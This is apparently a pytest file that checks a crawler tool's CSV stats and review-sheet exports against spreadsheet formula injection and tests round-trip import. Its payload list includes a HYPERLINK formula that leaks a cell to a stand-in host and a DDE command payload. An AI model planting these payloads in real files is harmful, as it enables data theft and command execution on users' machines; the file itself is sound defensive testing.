"""Every CSV vemeter writes opens in a spreadsheet as text, and a review sheet comes back unchanged.

Target names and post text come from anyone on the internet; a cell that begins with =, +, -, @,
a tab or a CR would be evaluated by Excel or LibreOffice. The review sheet is then saved by a
spreadsheet with ";" (most of Europe and Central Asia) and a byte-order mark, and imported.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from crawler.commands.app import app
from storage.engine import open_database
from storage.models import ReviewLabel
from storage.records import PostRecord, TagRecord
from storage.runs import finish_run, start_run
from storage.sheets import SheetReader
from storage.writer import PostWriter

runner = CliRunner()
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "ok; =1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """Posts on targets named like formulas, each with a formula as its text, all kept."""
    config = tmp_path / "p.yaml"
    config.write_text(
        "project: p\nstorage: {url: 'sqlite:///p.db'}\nprivacy: {keep_text: all}\n",
        encoding="utf-8",
    )
    engine = open_database(f"sqlite:///{tmp_path / 'p.db'}")
    run = start_run(engine, project="p", config_hash="h", version="0", classifiers={})
    tag = [TagRecord("topic", "designated_org", 1.0, "lexicon", "1")]
    PostWriter(engine, run).write([
        PostRecord(
            "vk", "s", PAYLOADS[i % len(PAYLOADS)], f"p{i}",
            datetime(2025, 3, 1, tzinfo=UTC) + timedelta(hours=i), "ru", "Cyrl", 0.9, i % 3 == 0,
            True, text=PAYLOADS[i % len(PAYLOADS)], tags=tag if i % 3 == 0 else [],
        )
        for i in range(24)
    ])  # fmt: skip
    finish_run(engine, run, status="ok", new=24, seen=0, flagged=8, requests=0)
    engine.dispose()
    return config


def _cells(text: str) -> list[str]:
    """Every cell of a CSV as a spreadsheet would split it with "," or with ";"."""
    return [
        cell
        for separator in (",", ";")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
    ]


def _assert_safe(text: str) -> None:
    for cell in _cells(text):
        assert not cell.lstrip(" ").startswith(TRIGGERS), cell


def test_stats_csv_cells_are_text(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "stats.csv"
    done = runner.invoke(app, ["stats", str(project), "--by", "target", "--format", "csv", "-o", str(out)])  # fmt: skip
    assert done.exit_code == 0, done.output
    text = out.read_text(encoding="utf-8")
    assert "HYPERLINK" in text and "cmd|" in text  # the names are there, as text
    _assert_safe(text)
    body = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
    names = {row["target"] for row in SheetReader(body)}
    assert names == set(PAYLOADS)  # and read back by vemeter, unchanged


def test_review_sheet_is_safe_and_reads_back_unchanged(project: Path, tmp_path: Path) -> None:
    drawn = runner.invoke(app, ["review", "sample", str(project), "--size", "12", "--until", "2025-04-01", "--seed", "3", "--format", "csv"])  # fmt: skip
    assert drawn.exit_code == 0, drawn.output
    _assert_safe(drawn.stdout)
    sheet = tmp_path / "sheet.csv"
    done = runner.invoke(app, ["review", "export", str(project), "-o", str(sheet)])
    assert done.exit_code == 0, done.output
    written = sheet.read_text(encoding="utf-8")
    _assert_safe(written)
    with sheet.open(encoding="utf-8", newline="") as handle:
        rows = list(SheetReader(handle))
    assert len(rows) == 12 and {r["text"] for r in rows} <= set(PAYLOADS)
    assert {r["target"] for r in rows} <= set(PAYLOADS)
    # A reviewer labels it in a spreadsheet that saves ";"-separated with a byte-order mark; the
    # cells keep the quote vemeter put before them, and the reviewer's own note starts with "=".
    raw = list(csv.reader(io.StringIO(written, newline="")))
    header = raw[0]
    labelled = io.StringIO(newline="")
    out = csv.writer(labelled, delimiter=";")
    out.writerow(header)
    for cells in raw[1:]:
        cells[header.index("reviewer")] = "ann"
        cells[header.index("label")] = "yes"
        cells[header.index("note")] = "'=not a formula"
        out.writerow(cells)
    saved = tmp_path / "labelled.csv"
    saved.write_bytes(b"\xef\xbb\xbf" + labelled.getvalue().encode("utf-8"))
    imported = runner.invoke(app, ["review", "import", str(project), str(saved)])
    assert imported.exit_code == 0, imported.output
    assert "Stored 12 labels; 0 bad rows skipped" in imported.stderr
    engine = open_database(f"sqlite:///{tmp_path / 'p.db'}")
    notes = engine.connect().execute(select(ReviewLabel.note)).scalars().all()
    engine.dispose()
    assert notes == ["=not a formula"] * 12


def test_a_tab_separated_sheet_imports_too(project: Path, tmp_path: Path) -> None:
    runner.invoke(app, ["review", "sample", str(project), "--size", "4", "--until", "2025-04-01", "--seed", "3"])  # fmt: skip
    runner.invoke(app, ["review", "export", str(project), "-o", str(tmp_path / "s.csv")])
    with (tmp_path / "s.csv").open(encoding="utf-8", newline="") as handle:
        ids = [r["item_id"] for r in SheetReader(handle)]
    tsv = tmp_path / "labels.tsv"
    tsv.write_text(
        "item_id\treviewer\tlabel\n" + "".join(f"{i}\tann\tno\n" for i in ids), encoding="utf-8"
    )
    done = runner.invoke(app, ["review", "import", str(project), str(tsv)])
    assert done.exit_code == 0, done.output
    assert "Stored 4 labels" in done.stderr
